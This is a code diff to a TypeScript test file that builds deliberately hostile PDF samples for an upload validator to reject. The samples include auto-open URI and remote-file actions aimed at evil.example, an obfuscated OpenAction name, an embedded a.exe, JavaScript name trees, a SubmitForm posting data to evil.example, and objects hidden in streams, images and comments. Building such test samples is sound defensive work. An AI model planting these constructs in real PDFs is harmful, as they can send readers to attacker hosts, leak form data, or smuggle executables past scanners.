@@ -1,4 +1,4 @@
-import { crc32, gzipSync } from 'node:zlib';
+import { crc32, deflateSync, gzipSync } from 'node:zlib';
 import { bankPdf, picture } from './good-files.ts';
 import { bomb, packed, pdfWith, streamOf } from './pdf.ts';
 
@@ -128,6 +128,47 @@ const flood = (kind: 'png' | 'jpeg') =>
   picture(10, 10).resize({ width: 10_000, height: 10_000, kernel: 'nearest', fit: 'fill' }).toFormat(kind).toBuffer();
 
 const script = '/S /JavaScript /JS (app.alert(1))';
+const open = (action: string) => pdfWith('/OpenAction 10 0 R', [action]);
+const packedScript = packed(`<< ${script} >>`).toString('latin1');
+const asStream = (dictionary: string, data: string) => streamOf(dictionary, Buffer.from(data, 'latin1'));
+
+type Bad = (what: string, bytes: Buffer) => BadFile;
+
+/** What opens something, carries something, or lies where a reader finds it and a careless eye does not. */
+const hidden = (active: Bad, unreadable: Bad): BadFile[] => [
+  active('an address to open', pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>')),
+  active('an address to open elsewhere', open('<< /Type /Action /S /URI /URI (https://evil.example) >>')),
+  active('an address behind a page to open', open('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (x) >> >>')),
+  active('an address to open in disguise', pdfWith('/Open#41ction << /S /URI /URI (https://evil.example) >>')),
+  active('a packed address to open', pdfWith('', [packed('<< /OpenAction << /S /URI /URI (x) >> >>')])),
+  active('something to open that is nowhere', pdfWith('/OpenAction 77 0 R')),
+  active('another file to open', pdfWith('/OpenAction << /S /GoToR /F (//evil.example/x) >>')),
+  active('another file behind a link', pdfWith('', ['<< /Subtype /Link /A << /S /GoToR /F (x.pdf) >> >>'])),
+  active('acts of its own', pdfWith('/AA << /WC << /S /URI /URI (x) >> >>')),
+  active('an attached note', pdfWith('', ['<< /Type /Annot /Subtype /FileAttachment /FS 11 0 R >>'])),
+  active('a file in a file', pdfWith('', ['<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>'])),
+  active('data to import', pdfWith('/OpenAction << /S /ImportData /F (x) >>')),
+  active('scripts by name', pdfWith('/Names << /JavaScript << /Names [(a) 10 0 R] >> >>')),
+  active('rich media', pdfWith('', ['<< /Subtype /RichMedia >>'])),
+  active('a film', pdfWith('', ['<< /Subtype /Movie /Movie << /F (x.avi) >> >>'])),
+  active('a sound', pdfWith('', ['<< /S /Sound /Sound 11 0 R >>'])),
+  unreadable('a PDF with objects in a stream', pdfWith('', [asStream('<<', `20 0 obj\n${packedScript}\nendobj`)])),
+  unreadable(
+    'a PDF with objects in a picture',
+    pdfWith('', [asStream('<< /Subtype /Image', `20 0 obj % x\n${packedScript}\nendobj`)]),
+  ),
+  unreadable('a PDF with objects in a text', pdfWith('', [`<< /T (20 0 obj ${packedScript} endobj) >>`])),
+  unreadable('a PDF with objects in a remark', pdfWith('', [`% 20 0 obj << /Type /ObjStm\n<< /A 1 >>`])),
+  ...['/F /Fl', '/F [/Fl]', '/Filter /Fl /F /AHx', '/Filter [/AHx /Fl]', '/Filter [/A85 /Fl]', '/Filter /LZW'].map(
+    (filter) =>
+      unreadable(
+        `a PDF packed by ${filter}`,
+        pdfWith('', [streamOf(`<< /Type /ObjStm /N 1 /First 5 ${filter}`, deflateSync(Buffer.alloc(20, 1)))]),
+      ),
+  ),
+  unreadable('a PDF packed by what stands elsewhere', pdfWith('', [packed('<< >>', '/DecodeParms 11 0 R')])),
+  unreadable('a PDF with two beginnings', pdfWith('', [packed('<< >>', '/First 300')])),
+];
 async function documents(): Promise<BadFile[]> {
   const good = pdfWith('');
   const pdf = (what: string, bytes: Buffer, why: string) => bad(what, bytes, 'application/pdf', why);
@@ -159,6 +200,7 @@ async function documents(): Promise<BadFile[]> {
     ),
     active('a form that is a program', pdfWith('/AcroForm << /XFA [(x) 10 0 R] >>')),
     active('a form that sends', pdfWith('/OpenAction << /S /SubmitForm /F (http://evil.example) >>')),
+    ...hidden(active, (what, bytes) => pdf(what, bytes, 'unreadable')),
     pdf(
       'a PDF packed so that nobody looks in',
       pdfWith('', [packed('<< >>', '/DecodeParms << /Predictor 12 >>')]),
